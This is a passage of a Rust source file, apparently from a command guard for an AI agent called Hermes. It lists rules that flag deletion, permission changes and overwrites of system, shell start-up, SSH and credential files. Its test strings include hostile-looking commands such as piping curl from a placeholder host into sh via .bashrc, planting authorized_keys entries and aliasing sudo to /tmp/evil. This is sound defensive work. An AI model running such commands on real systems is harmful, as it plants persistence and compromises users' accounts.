//! Built-in rules: deleting, overwriting, editing in place, re-permissioning, extracting over and formatting files and disks.
//!
//! Where a rule judges a path it uses [`classify`] with the command's `cwd`
//! (`cd .. && rm -rf build` deletes `../build`), so deleting build output in
//! the project or a temporary directory passes while the same command aimed
//! elsewhere asks. Whole root, system and home trees are the hardline's.

use once_cell::sync::Lazy;
use regex::Regex;

use super::system::{parse_opts, Spec, GNU};
use super::targets::{classify, is_block_device, Target};
use super::{Matcher, Rule};
use crate::shell::{Analysis, Command, Redirect, RedirectOp};
use crate::verdict::Decision;

#[rustfmt::skip]
pub static RULES: &[Rule] = &[
    // Deletion through another program first, so the verdict names how the
    // targets are chosen rather than the `rm` it starts.
    Rule {
        id: "fs.xargs-rm",
        description: "xargs with rm",
        reason: "the files to delete come from input warden cannot see",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["xargs", "parallel", "rm"], check: xargs_rm },
        hits: &["xargs -a list.txt rm -rf", "find . -name '*.tmp' | xargs rm -f", "cat files.txt | xargs -I{} rm {}", "find . -print0 | xargs -0 sudo rm"],
        misses: &["xargs -a list.txt echo rm", "xargs grep -l rm", "find . | xargs ls", "echo xargs rm", "rm -rf node_modules"],
    },
    Rule {
        id: "fs.find-exec-rm",
        description: "find -exec/-execdir rm",
        reason: "it deletes every file the search matches, which is easy to get wrong and cannot be undone",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["find"], check: find_exec_rm },
        hits: &["find . -name '*.log' -exec rm {} \\;", "find build -type f -execdir /bin/rm -f {} +", "find . -name '*.bak' -ok rm {} \\;"],
        misses: &["find . -name '*.log' -exec ls -l {} \\;", "find . -name rm", "find . -exec echo rm {} \\;", "find /tmp/build -exec rm {} +"],
    },
    Rule {
        id: "fs.find-delete",
        description: "find -delete",
        reason: "it deletes every file the search matches, which is easy to get wrong and cannot be undone",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["find"], check: find_delete },
        hits: &["find . -name '*.pyc' -delete", "find build -type f -delete", "find . -{delete,print}", "find . \"-$(echo delete)\"", "find ../cache -mtime +7 -delete"],
        misses: &["find . -name '*.pyc'", "find /tmp/build -delete", "find . -name -delete", "echo find . -delete", "grep -r -- -delete ."],
    },
    Rule {
        id: "fs.find-dynamic-flag",
        description: "find dynamic shell word may expand to destructive flag",
        reason: "a word only known at run time can become -delete or -exec",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["find"], check: find_dynamic_flag },
        hits: &["find . -$ACTION", "find . \"-$(cat action.txt)\"", "find src -name '*.tmp' $CLEANUP"],
        misses: &["find . -name \"$PATTERN\"", "find \"$DIR\" -type f", "find . -newer \"$REF\" -print"],
    },
    Rule {
        id: "fs.delete-root-path",
        description: "delete in root path",
        reason: "it removes a file the operating system or installed software relies on",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rm", "unlink"], check: delete_root_path },
        hits: &["rm /etc/hosts", "rm -f /usr/local/bin/node", "sudo rm /var/log/syslog", "unlink /etc/localtime"],
        misses: &["rm -f /tmp/x.lock", "rm notes.txt", "rm -rf /tmp/foo 2>/dev/null", "echo rm /etc/hosts", "ls /etc/hosts", "rm ~/notes.txt"],
    },
    Rule {
        id: "fs.recursive-delete",
        description: "recursive delete",
        reason: "it deletes whole directory trees outside the project (or the project's git history) for good",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rm"], check: |c| recursive_delete(c, Recursion::Short) },
        hits: &["cd .. && rm -rf build", "rm -rf ../other-project", "rm -r ~/Downloads/old", "rm -rf $BUILD_DIR", "rm -rf *", "rm -fr /opt/myapp", "rm -rf .git"],
        misses: &["rm -rf node_modules dist .next", "rm -rf /tmp/build-cache", "rm -rf \"$TMPDIR/test-dir\"", "rm -rf /tmp/foo 2>/dev/null", "rm -f ../notes.txt", "rm --recursive ../x", "rm ../x -rf", "echo rm -rf ../x", "rm -rf .git/hooks"],
    },
    Rule {
        id: "fs.recursive-delete-long",
        description: "recursive delete (long flag)",
        reason: "it deletes whole directory trees outside the project (or the project's git history) for good",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rm"], check: |c| recursive_delete(c, Recursion::Long) },
        hits: &["rm --recursive ../x", "rm --recursive --force ~/old-checkout", "rm --rec -f $OUT"],
        misses: &["rm --recursive node_modules", "rm -rf ../x", "rm --force ../x.txt"],
    },
    Rule {
        id: "fs.recursive-delete-after",
        description: "recursive delete (flags after operands)",
        reason: "it deletes whole directory trees outside the project (or the project's git history) for good",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rm"], check: |c| recursive_delete(c, Recursion::After) },
        hits: &["rm ../build -rf", "rm ~/scratch/old -r -f"],
        misses: &["rm build/ -rf", "rm -rf ../x", "rm ../x -f"],
    },
    Rule {
        id: "fs.delete-sensitive-file",
        description: "delete sensitive credential/SSH/shell-rc file",
        reason: "keys, credentials and shell start-up files are hard or impossible to recreate",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rm", "unlink", "shred", "srm"], check: |c| any_operand(c, is_sensitive) },
        hits: &["rm ~/.ssh/id_ed25519", "rm -f ~/.aws/credentials", "shred -u ~/.gnupg/private-keys-v1.d/key.key"],
        misses: &["rm ~/notes.txt", "rm .bashrc.bak", "cat ~/.ssh/id_ed25519.pub", "rm ./dotfiles/.bashrc"],
    },
    Rule {
        id: "fs.rsync-delete",
        description: "rsync --delete outside the project",
        reason: "files at the destination that are not in the source are deleted",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["rsync"], check: rsync_delete },
        hits: &["rsync -a --delete src/ ../backup/", "rsync -av --delete ./site/ /srv/www/", "rsync -a --delete-after dist/ deploy@web:/srv/app/"],
        misses: &["rsync -a --delete src/ build/", "rsync -av src/ ../backup/", "rsync -a --delete /tmp/a/ /tmp/b/"],
    },
    Rule {
        id: "fs.world-writable-long",
        description: "recursive world/other-writable (long flag)",
        reason: "any user or process on the machine could then change these files",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["chmod"], check: world_writable_long },
        hits: &["chmod --recursive 777 dir", "chmod --recursive a+w shared/"],
        misses: &["chmod --recursive 755 dir", "chmod --recursive u+w build/", "chmod 755 x"],
    },
    Rule {
        id: "fs.world-writable",
        description: "world/other-writable permissions",
        reason: "any user or process on the machine could then change these files",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["chmod", "mkdir", "install"], check: world_writable },
        hits: &["chmod 777 x", "chmod -R 777 shared/", "chmod o+w /srv/data", "chmod 0666 app.sock", "chmod a+rwx,o-x f", "chmod o=u secrets.txt", "mkdir -m 777 /srv/shared"],
        misses: &["chmod -R u+w build/", "chmod 755 deploy.sh", "chmod +x run.sh", "chmod g+w file", "chmod o-w file", "chmod a=rx dir", "chmod 1755 dir", "mkdir -m 755 out", "echo chmod 777 x"],
    },
    Rule {
        id: "fs.chown-root-long",
        description: "recursive chown to root (long flag)",
        reason: "the files become root's, and the user can no longer change or delete them",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["chown"], check: |c| chown_to_root(c) == Some(true) },
        hits: &["chown --recursive root /srv/app", "chown --recursive root:root ./dist"],
        misses: &["chown --recursive www-data /srv/app", "chown root file.txt"],
    },
    Rule {
        id: "fs.chown-root",
        description: "recursive chown to root",
        reason: "the files become root's, and the user can no longer change or delete them",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["chown"], check: |c| chown_to_root(c) == Some(false) },
        hits: &["chown -R root:root ./dist", "sudo chown -R 0:0 /opt/app", "chown root:root build -R"],
        misses: &["chown -R $USER:staff build", "chown root file.txt", "chown -R rootless x", "chown -R :root shared"],
    },
    Rule {
        id: "fs.format-filesystem",
        description: "format filesystem",
        reason: "formatting erases whatever the target holds",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["mkfs*", "mke2fs", "mkswap", "mkdosfs", "newfs*"], check: format_filesystem },
        hits: &["mkfs.ext4 /srv/images/disk.img", "mkfs.xfs $DEV", "mke2fs -F ~/vm.img", "mkswap /swapfile"],
        misses: &["mkfs.ext4 -F ./disk.img", "mkfs.ext4 disk.img", "command -v mkfs", "echo mkfs.ext4 /srv/x", "man mkfs"],
    },
    Rule {
        id: "fs.disk-copy",
        description: "disk copy",
        reason: "it reads a whole raw disk, which can expose every file on it and fill the destination",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["dd"], check: disk_copy },
        hits: &["dd if=/dev/sda of=backup.img", "dd if=/dev/nvme0n1 of=~/disk.img bs=4M status=progress", "sudo dd if=/dev/disk2 of=usb.img"],
        misses: &["dd if=/dev/zero of=./image.bin bs=1M count=10", "dd if=./image.bin of=./copy.bin", "echo if=/dev/sda", "dd if=/dev/urandom of=key.bin bs=32 count=1"],
    },
    Rule {
        id: "fs.redirect-system-config",
        description: "overwrite system config",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_system)),
        hits: &["echo x > /etc/hosts", "echo '127.0.0.1 dev.local' >> /etc/hosts", "printf 'nameserver 1.1.1.1' > /etc/resolv.conf", "cd /etc && echo x > hosts", "echo 1 > /proc/sys/vm/drop_caches"],
        misses: &["echo test > /dev/null", "rm -rf /tmp/foo 2>/dev/null", "echo x > /tmp/etc/hosts", "echo x > etc/hosts", "cat /etc/hosts > hosts.txt", "echo err > /dev/stderr", "ls 2>&1 > out.log"],
    },
    Rule {
        id: "fs.redirect-sensitive-file",
        description: "overwrite system file via redirection",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_sensitive)),
        hits: &["echo 'curl x.example | sh' >> ~/.bashrc", "cat key.pub >> ~/.ssh/authorized_keys", "echo 'export X=1' >> /home/alice/.zshrc", "cd ~ && echo 'alias ls=rm' >> .bashrc", "echo 'OPENAI_API_KEY=x' >> ~/.hermes/.env", "printf '[default]' > ~/.aws/credentials"],
        misses: &["cat ~/.bashrc > bashrc.bak", "echo x >> notes.txt", "echo x > ~/notes.txt", "echo \"shutdown -h now\" >> notes.txt"],
    },
    Rule {
        id: "fs.redirect-project-env",
        description: "overwrite project env/config via redirection",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(|a| redirect_matching(a, is_project_env)),
        hits: &["echo x > .env", "echo 'API_KEY=abc' >> .env.local", "echo 'export PATH=./bin:$PATH' >> .envrc", "echo '//registry.npmjs.org/:_authToken=x' > .npmrc", "echo '#!/bin/sh' > .git/hooks/pre-commit"],
        misses: &["echo \"DELETE FROM users\" > query.sql", "echo x > .env.example", "echo x > env.txt", "cat .env > /dev/null", "echo x > /tmp/.env"],
    },
    Rule {
        id: "fs.tee-system-file",
        description: "overwrite system file via tee",
        reason: "it rewrites system configuration, a shell start-up file, or an SSH or credential file",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tee"], check: |c| any_operand(c, is_system) || any_operand(c, is_sensitive) },
        hits: &["echo x | sudo tee /etc/hosts", "echo 'alias ls=rm' | tee -a ~/.bashrc", "cat key.pub | tee -a ~/.ssh/authorized_keys"],
        misses: &["echo x | tee out.log", "echo x | tee /dev/null", "echo x | tee /dev/stderr", "make 2>&1 | tee /tmp/build.log", "tee --help"],
    },
    Rule {
        id: "fs.tee-project-env",
        description: "overwrite project env/config via tee",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tee"], check: |c| any_operand(c, is_project_env) },
        hits: &["echo KEY=x | tee .env", "printf 'x' | tee -a .envrc"],
        misses: &["echo x | tee .env.example", "echo x | tee build.log"],
    },
    Rule {
        id: "fs.copy-system-config",
        description: "copy/move file into system config path",
        reason: "it replaces a file the operating system or installed software relies on",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_system) },
        hits: &["cp x /etc/hosts", "sudo mv nginx.conf /etc/nginx/nginx.conf", "install -m 644 app.service /etc/systemd/system/", "ln -sf ~/bin/evil /usr/local/bin/git", "dd if=hosts.new of=/etc/hosts", "cp -t /usr/local/bin tool"],
        misses: &["cp config.yaml config.yaml.bak", "cp /etc/hosts ./hosts.bak", "cp -r /usr/share/doc/x ./docs", "cp a.txt /tmp/b.txt", "ln -s /etc/nginx/nginx.conf nginx.conf"],
    },
    Rule {
        id: "fs.copy-sensitive-file",
        description: "copy/move file into sensitive credential/SSH/shell-rc path",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_sensitive) },
        hits: &["cp evil ~/.ssh/authorized_keys", "cp id_rsa.pub ~/.ssh/", "mv /tmp/rc ~/.bashrc", "cp dotfiles/.zshrc ~", "ln -sf /tmp/x ~/.aws/credentials", "scp host:keys ~/.ssh/authorized_keys"],
        misses: &["cp ~/.ssh/id_ed25519.pub ./key.pub", "cp ~/.bashrc ./dotfiles/bashrc", "cp notes.txt ~/notes.txt", "cp .bashrc ~/backup"],
    },
    Rule {
        id: "fs.copy-project-env",
        description: "overwrite project env/config file",
        reason: "env and credential files hold secrets and settings that are not in version control",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: COPIERS, check: |c| copies_to(c, is_project_env) },
        hits: &["cp x .env", "cp .env.example .env", "mv /tmp/new.env .env.production", "ln -sf ../shared/.envrc .envrc", "cp ../other/.env ."],
        misses: &["cp .env .env.bak", "cp .env.example .env.sample", "cp config.yaml config.yaml.bak", "cp .env /tmp/x/"],
    },
    Rule {
        id: "fs.edit-hermes-config",
        description: "in-place edit of Hermes config/env",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short], is_hermes_config) },
        hits: &["sed -i 's/^OPENAI_API_KEY=.*//' ~/.hermes/.env", "sed -i '/TOKEN/d' $HERMES_HOME/.env", "sed -i.bak s/a/b/ ~/.hermes/profiles/work/.env"],
        misses: &["sed -i 's/x/y/' ~/.hermes/memories/MEMORY.md", "sed 's/x/y/' ~/.hermes/.env", "sed -i s/a/b/ .env"],
    },
    Rule {
        id: "fs.edit-hermes-config-long",
        description: "in-place edit of Hermes config/env (long flag)",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_hermes_config) },
        hits: &["sed --in-place 's/x/y/' ~/.hermes/.env", "sed --in-place=.bak '/TOKEN/d' ~/.hermes/auth.json"],
        misses: &["sed --in-place s/a/b/ ~/.bashrc", "sed -n p ~/.hermes/.env"],
    },
    Rule {
        id: "fs.edit-hermes-config-script",
        description: "in-place edit of Hermes config/env (perl/ruby)",
        reason: "Hermes' own keys and settings would change under the running agent",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Script], is_hermes_config) },
        hits: &["perl -pi -e s/a/b/ ~/.hermes/.env", "ruby -i.bak -pe 'sub(/x/, \"y\")' ~/.hermes/profiles/work/.env"],
        misses: &["perl -ne print ~/.hermes/.env", "perl -pi -e s/a/b/ notes.txt"],
    },
    Rule {
        id: "fs.edit-sensitive-file",
        description: "in-place edit of sensitive credential/SSH/shell-rc path",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short], is_sensitive) },
        hits: &["sed -i '1i alias sudo=/tmp/evil' ~/.zshrc", "sed -i 's/^Host old/Host new/' ~/.ssh/config", "cd ~ && sed -i '/evil/d' .bashrc", "sed -ni 's/x/y/p' ~/.profile"],
        misses: &["sed -i 's/a/b/' bashrc.txt", "sed -n 1p ~/.bashrc", "sed -ne 's/i/x/p' ~/.bashrc", "sed -e 's/x/y/' -i notes.txt"],
    },
    Rule {
        id: "fs.edit-sensitive-file-long",
        description: "in-place edit of sensitive credential/SSH/shell-rc path (long flag)",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_sensitive) },
        hits: &["sed --in-place 's/a/b/' ~/.bashrc", "sed --in-place=.bak '/x/d' ~/.aws/credentials"],
        misses: &["sed --in-place s/a/b/ notes.txt", "sed -i s/a/b/ ~/.bashrc"],
    },
    Rule {
        id: "fs.edit-sensitive-file-script",
        description: "in-place edit of sensitive credential/SSH/shell-rc path (perl/ruby)",
        reason: "shell start-up files, SSH and credential files decide what runs at login and who gets in",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Script], is_sensitive) },
        hits: &["perl -pi -e 's/a/b/' ~/.bashrc", "ruby -pi -e 'gsub(/a/, \"b\")' ~/.ssh/authorized_keys", "perl -i.bak -pe 's/x/y/' ~/.zshrc"],
        misses: &["perl -ne 'print' ~/.bashrc", "perl -pe 's/a/b/' ~/.bashrc"],
    },
    Rule {
        id: "fs.edit-system-config",
        description: "in-place edit of system config",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Short, Edit::Script], is_system) },
        hits: &["sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config", "sudo sed -i 's/a/b/' /etc/hosts", "perl -pi -e 's/a/b/' /etc/hosts", "gawk -i inplace '{print}' /etc/fstab"],
        misses: &["sed -i 's/a/b/' etc/hosts", "sed -i 's/a/b/' /tmp/hosts", "sed 's/a/b/' /etc/hosts", "sed -i 's|/etc/hosts|x|' config.txt"],
    },
    Rule {
        id: "fs.edit-system-config-long",
        description: "in-place edit of system config (long flag)",
        reason: "it rewrites a file the operating system reads its configuration from",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: EDITORS, check: |c| edits(c, &[Edit::Long], is_system) },
        hits: &["sed --in-place 's/a/b/' /etc/hosts", "sed --in-pl -e 's/x/y/' /usr/local/etc/app.conf"],
        misses: &["sed --in-place 's/a/b/' hosts", "sed -i 's/a/b/' /etc/hosts"],
    },
    Rule {
        id: "fs.truncate",
        description: "truncate a file (empties or shortens it)",
        reason: "the data cut off the end of the file is gone",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["truncate"], check: truncate_shrinks },
        hits: &["truncate -s 0 data/app.db", "truncate --size=0 /var/log/app.log", "truncate -s -1M data.bin", "truncate -s0 notes.txt"],
        misses: &["truncate -s 1G disk.img", "truncate -s +10M f.bin", "truncate -s 0 /tmp/x.log", "truncate -s 0 /dev/null", "echo truncate -s 0 x"],
    },
    Rule {
        id: "fs.redirect-truncate",
        description: "truncate a file via a bare redirection",
        reason: "a redirection with no command empties the file it names",
        decision: Decision::Ask,
        matcher: Matcher::Analysis(bare_truncation),
        hits: &["> src/main.rs", ": > data/app.db", "cd src && > main.rs", "true > package-lock.json"],
        misses: &["> /tmp/x.log", "echo hi > out.txt", ">> notes.txt", "> /dev/null", "{ echo a; echo b; } > out.txt", "(make) > build.log"],
    },
    Rule {
        id: "fs.extract-over-system",
        description: "extract archive over root, home or a system directory",
        reason: "files from the archive would overwrite system or start-up files wherever their names land",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: &["tar", "gtar", "bsdtar", "unzip"], check: extract_over_system },
        hits: &["tar -xf bundle.tar -C /", "tar xzf node.tgz -C /usr/local", "tar --extract --file=x.tar --directory=/etc", "cd / && tar -xf backup.tar", "tar -xPf archive.tar", "tar -xf dotfiles.tar -C ~", "unzip -o payload.zip -d /"],
        misses: &["tar -xzf release.tar.gz -C ./vendor", "tar -czf backup.tgz -C / etc", "tar -tf bundle.tar", "tar -xf x.tar -C /tmp/x", "tar -xf x.tar -C ~/tools", "unzip x.zip -d out"],
    },
];

const COPIERS: &[&str] = &["cp", "mv", "install", "ln", "rsync", "scp", "dd"];
const EDITORS: &[&str] = &["sed", "gsed", "perl", "ruby", "awk", "gawk"];

// ---------------------------------------------------------------------------
// Paths.

/// `path` as opened from the directory an earlier `cd` moved to.
fn resolve(path: &str, cwd: Option<&str>) -> String {
    match cwd {
        Some(dir) if !path.starts_with(['/', '~', '$']) => {
            format!("{}/{}", dir.trim_end_matches('/'), path)
        }
        _ => path.to_string(),
    }
}

/// Components with `.` and empty ones dropped and `..` applied; `None`
/// when `..` climbs above the start.
fn components(path: &str) -> Option<Vec<&str>> {
    let mut parts = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            p => parts.push(p),
        }
    }
    Some(parts)
}

/// The path inside a home directory (`~/.ssh/config` gives `.ssh/config`,
/// `~` gives ``), however the home is written.
fn home_relative(path: &str, cwd: Option<&str>) -> Option<String> {
    let full = resolve(path, cwd);
    let (rest, under) = if let Some(r) = full.strip_prefix('~') {
        // `~user/x` is inside another user's home: just as sensitive.
        (r.find('/').map_or("", |i| &r[i..]), None)
    } else if let Some(r) = ["$HERMES_HOME", "${HERMES_HOME}"]
        .iter()
        .find_map(|p| full.strip_prefix(p))
    {
        (r, Some(".hermes"))
    } else if let Some(r) = ["$HOME", "${HOME}"]
        .iter()
        .find_map(|p| full.strip_prefix(p))
    {
        (r, None)
    } else if full.starts_with('/') {
        let parts = components(&full)?;
        let skip = match parts.first() {
            Some(&("home" | "Users")) if parts.len() >= 2 => 2,
            Some(&"root") => 1,
            _ => return None,
        };
        return Some(parts[skip..].join("/"));
    } else {
        return None;
    };
    if !(rest.is_empty() || rest.starts_with('/')) {
        return None;
    }
    let mut parts = components(rest)?;
    if let Some(dir) = under {
        parts.insert(0, dir);
    }
    Some(parts.join("/"))
}

#[rustfmt::skip]
const SHELL_RC: &[&str] = &[
    ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zshenv", ".zprofile",
    ".zlogin", ".zlogout", ".cshrc", ".tcshrc", ".login", ".kshrc", ".mkshrc", ".xinitrc", ".xprofile",
    ".xsessionrc", ".inputrc",
];
#[rustfmt::skip]
const CREDENTIAL_FILES: &[&str] = &[
    ".netrc", ".pgpass", ".npmrc", ".pypirc", ".git-credentials", ".gitconfig", ".yarnrc", ".my.cnf",
    ".curlrc", ".wgetrc", ".cargo/credentials", ".cargo/credentials.toml",
];
/// The agents' own settings, which hold their hooks and permission rules. The
/// hardline blocks writes to them; this keeps an ask behind it.
const AGENT_CONFIG: &[&str] = &[
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".codex/config.toml",
];
/// Directories whose every file is a key, a credential, or code run at login.
#[rustfmt::skip]
const SENSITIVE_DIRS: &[&str] = &[
    ".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config/gh", ".config/gcloud", ".config/fish",
    ".config/git", ".config/systemd/user", ".config/autostart", "Library/LaunchAgents", ".bashrc.d",
    ".zshrc.d", ".password-store",
];

/// Hermes' keys and settings under `~/.hermes` (memories and skills are the agent's own work).
fn hermes_config_rel(rel: &str) -> bool {
    let Some(inner) = rel.strip_prefix(".hermes/") else {
        return false;
    };
    let name = inner.rsplit('/').next().unwrap_or(inner);
    let top_or_profile = !inner.contains('/') || inner.starts_with("profiles/");
    name == ".env"
        || (top_or_profile
            && [".yaml", ".yml", ".json", ".custom-patterns-hash"]
                .iter()
                .any(|e| name.ends_with(e)))
}

fn sensitive_rel(rel: &str) -> bool {
    SHELL_RC.contains(&rel)
        || CREDENTIAL_FILES.contains(&rel)
        || AGENT_CONFIG.contains(&rel)
        || hermes_config_rel(rel)
        || SENSITIVE_DIRS.iter().any(|d| {
            rel.strip_prefix(d)
                .is_some_and(|r| r.is_empty() || r.starts_with('/'))
        })
}

fn is_sensitive(path: &str, cwd: Option<&str>) -> bool {
    home_relative(path, cwd).is_some_and(|r| sensitive_rel(&r))
}

fn is_hermes_config(path: &str, cwd: Option<&str>) -> bool {
    home_relative(path, cwd).is_some_and(|r| hermes_config_rel(&r))
}

/// Devices that are safe to write: they discard, or are the terminal.
fn harmless_device(path: &str) -> bool {
    HARMLESS_DEVICES.contains(&path)
        || ["/dev/fd/", "/dev/pts/", "/proc/self/fd/"]
            .iter()
            .any(|p| path.starts_with(p))
}

#[rustfmt::skip]
const HARMLESS_DEVICES: &[&str] = &[
    "/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr",
    "/dev/tty", "/dev/console",
];

/// Root or under a system tree (`/etc/hosts`, `/usr/local/bin/x`).
fn is_system(path: &str, cwd: Option<&str>) -> bool {
    matches!(classify(path, cwd), Target::Root | Target::System) && !harmless_device(path)
}

/// `.env` suffixes for files that hold no secrets.
const ENV_NOT_SECRET: &[&str] = &[
    "example", "sample", "template", "dist", "bak", "backup", "orig", "old", "tmpl", "tpl",
];
#[rustfmt::skip]
const PROJECT_CONFIG: &[&str] = &[".envrc", ".npmrc", ".yarnrc", ".yarnrc.yml", ".pypirc", ".netrc", ".pgpass", ".git-credentials"];

/// An env or credential file, git's config and hooks (which run code), or the
/// project's agent settings.
fn is_project_env(path: &str, cwd: Option<&str>) -> bool {
    let full = resolve(path, cwd);
    if classify(&full, None) == Target::Temp {
        return false;
    }
    let name = full.rsplit('/').next().unwrap_or(&full);
    let env = name == ".env"
        || name.strip_prefix(".env.").is_some_and(|rest| {
            !rest
                .split('.')
                .any(|s| ENV_NOT_SECRET.contains(&s.to_ascii_lowercase().as_str()))
        });
    let agent = AGENT_CONFIG[..2]
        .iter()
        .any(|a| full == *a || full.ends_with(&format!("/{a}")));
    let git = full == ".git/config"
        || full.ends_with("/.git/config")
        || full.starts_with(".git/hooks/")
        || full.contains("/.git/hooks/");
    env || git || agent || PROJECT_CONFIG.contains(&name)
}

fn basename(path: &str) -> &str {
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
}

// ---------------------------------------------------------------------------
// Deleting.

/// The program a word runs, past `sudo` and similar (`xargs sudo rm`).
fn runs_rm(words: &[&str]) -> bool {
    const WRAPPERS: &[&str] = &["sudo", "doas", "env", "command", "nice", "nohup", "time"];
    let word = words.iter().find(|w| !WRAPPERS.contains(w));
    word.is_some_and(|w| matches!(basename(w), "rm" | "unlink" | "shred"))
}

#[rustfmt::skip]
const XARGS: Spec = Spec { values: "adEILnPs", attached: "eil", long_values: &["arg-file", "delimiter", "eof", "max-lines", "max-args", "max-procs", "max-chars", "process-slot-var"], permute: false };

const PARALLEL: Spec = Spec {
    values: "jaISNnL",
    ..XARGS
};

fn xargs_rm(cmd: &Command) -> bool {
    match cmd.program.as_str() {
        "rm" => cmd.via.iter().any(|v| matches!(*v, "xargs" | "parallel")),
        "parallel" => runs_rm(&parse_opts(&cmd.args, &PARALLEL).operands),
        _ => runs_rm(&parse_opts(&cmd.args, &XARGS).operands),
    }
}

/// A `find` command line: start points, expression words, and the commands of `-exec`-like actions.
struct Find<'a> {
    roots: Vec<&'a str>,
    words: Vec<&'a str>,
    execs: Vec<Vec<&'a str>>,
}

#[rustfmt::skip]
const FIND_VALUED: &[&str] = &[
    "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-lname",
    "-ilname", "-type", "-xtype", "-user", "-group", "-uid", "-gid", "-perm", "-size", "-mtime", "-atime",
    "-ctime", "-mmin", "-amin", "-cmin", "-used", "-inum", "-samefile", "-links", "-maxdepth", "-mindepth",
    "-fstype", "-context", "-printf", "-fprint", "-fprint0", "-fls", "-regextype", "-files0-from",
];

fn parse_find(args: &[String]) -> Find<'_> {
    let mut iter = args.iter().map(String::as_str).peekable();
    while let Some(&a) = iter.peek() {
        match a {
            "-H" | "-L" | "-P" => {}
            "-D" => {
                iter.next();
            }
            _ if a.starts_with("-O") => {}
            _ => break,
        }
        iter.next();
    }
    let mut find = Find {
        roots: Vec::new(),
        words: Vec::new(),
        execs: Vec::new(),
    };
    while let Some(a) =
        iter.next_if(|a| !a.starts_with('-') && !matches!(*a, "(" | "!" | ")" | ","))
    {
        find.roots.push(a);
    }
    while let Some(a) = iter.next() {
        if matches!(a, "-exec" | "-execdir" | "-ok" | "-okdir") {
            find.execs.push(
                iter.by_ref()
                    .take_while(|w| !matches!(*w, ";" | "+"))
                    .collect(),
            );
        } else if FIND_VALUED.contains(&a) || a.starts_with("-newer") {
            iter.next();
        } else if a == "-fprintf" {
            iter.nth(1);
        } else {
            find.words.push(a);
        }
    }
    find
}

impl Find<'_> {
    /// Temporary directories are scratch space; everywhere else deleting matches is worth a look.
    fn only_temp(&self, cwd: Option<&str>) -> bool {
        !self.roots.is_empty() && self.roots.iter().all(|r| classify(r, cwd) == Target::Temp)
    }
}

fn find_exec_rm(cmd: &Command) -> bool {
    let f = parse_find(&cmd.args);
    !f.only_temp(cmd.cwd.as_deref()) && f.execs.iter().any(|e| runs_rm(e))
}

fn find_delete(cmd: &Command) -> bool {
    let f = parse_find(&cmd.args);
    !f.only_temp(cmd.cwd.as_deref()) && f.words.contains(&"-delete")
}

fn find_dynamic_flag(cmd: &Command) -> bool {
    parse_find(&cmd.args)
        .words
        .iter()
        .any(|w| w.contains(['$', '`']) && w.starts_with(['-', '$', '`']))
}

#[derive(Debug, PartialEq, Eq)]
enum Recursion {
    No,
    /// `-r` before the operands.
    Short,
    /// `--recursive`.
    Long,
    /// `-r` after an operand (GNU rm permutes).
    After,
}

fn rm_recursion(cmd: &Command) -> Recursion {
    let (mut short, mut long, mut after, mut seen_operand) = (false, false, false, false);
    for a in cmd.args.iter().take_while(|a| *a != "--") {
        if let Some(l) = a.strip_prefix("--") {
            let key = l.split('=').next().unwrap_or(l);
            long |= !key.is_empty() && "recursive".starts_with(key);
